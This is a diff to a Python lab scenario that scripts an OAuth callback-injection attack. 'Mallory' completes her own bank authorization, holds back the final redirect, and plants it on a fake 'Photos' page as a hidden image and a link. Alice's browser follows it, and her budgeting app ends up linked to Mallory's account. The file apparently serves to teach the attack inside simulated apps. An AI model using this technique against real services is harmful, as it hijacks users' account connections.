@@ -1,38 +1,60 @@
 """Mallory begins, Alice's browser ends."""
 
+from typing import Any
+from urllib.parse import urlencode
+
+from flask import Response, render_template_string, request
+
+from labs.chromium import BrowserStage
 from labs.stage import Stage, Stuck
 from labs.steps import step
 
+PAGE = """<!doctype html><html lang="en"><title>Photos</title><h1>Photos of the party</h1>
+<img src="{{ address }}" alt="" width="1" height="1"><p><a href="{{ address }}">See the photos</a></p></html>"""
+
+
+def photos(world: Any) -> Response:
+    """Show a link, and a picture nobody sees: both are the address that Mallory kept."""
+    page = Response(render_template_string(PAGE, address=request.args.get("see", "")))
+    page.headers["Content-Security-Policy"] = f"default-src 'none'; img-src {world.here.budget}"
+    return page
+
+
+PAGES = {"/photos": photos}
+
 
 @step("Alice", by_hand="{budget}/connect")
-def alice_connects(stage: Stage) -> None:
+def alice_connects(stage: BrowserStage) -> None:
     """Connect Budget to the bank: sign in as alice, and allow."""
     stage.alice.go(f"{stage.here.budget}/connect").agree()
 
 
 @step("Alice", by_hand="{budget}/connect?with=transfers:write")
-def alice_is_interrupted(stage: Stage) -> None:
+def alice_is_interrupted(stage: BrowserStage) -> None:
     """Let Budget ask for more, and leave Bank ID's page open: do not press a button there."""
     stage.alice.go(f"{stage.here.budget}/connect?with=transfers:write")
 
 
 @step("attacker")
 def mallory_keeps_her_callback(stage: Stage) -> None:
-    """Let Mallory sign in and allow, in her own browser, up to the last redirect; she does not follow it."""
+    """Let Mallory sign in and allow, in her own browser, up to the last redirect; put its address on a page."""
     stage.mallory.holds_back = f"{stage.here.budget}/callback"
     stage.mallory.go(f"{stage.here.budget}/connect").agree()
-    stage.onward = stage.mallory.handed_over
+    if not stage.mallory.handed_over:
+        raise Stuck("Mallory was not sent back to Budget")
+    stage.onward = f"{stage.here.attacker}/photos?{urlencode({'see': stage.mallory.handed_over})}"
 
 
 @step("Alice")
-def alice_follows_the_link(stage: Stage) -> None:
-    """Follow the link that Mallory sent."""
-    if not stage.mallory.handed_over:
-        raise Stuck("Mallory has no link yet")
-    stage.alice.go(stage.mallory.handed_over)
+def alice_follows_the_link(stage: BrowserStage) -> None:
+    """Open Mallory's page, which holds that address as a picture, too; then follow its link."""
+    if not stage.onward:
+        raise Stuck("Mallory has no page yet")
+    stage.alice.go(stage.onward).click("See the photos", role="link")
+    stage.onward = ""
 
 
 @step("Alice", by_hand="{budget}/")
-def alice_looks_at_her_money(stage: Stage) -> None:
+def alice_looks_at_her_money(stage: BrowserStage) -> None:
     """Open Budget. Whose account is it?"""
     stage.alice.go(f"{stage.here.budget}/")
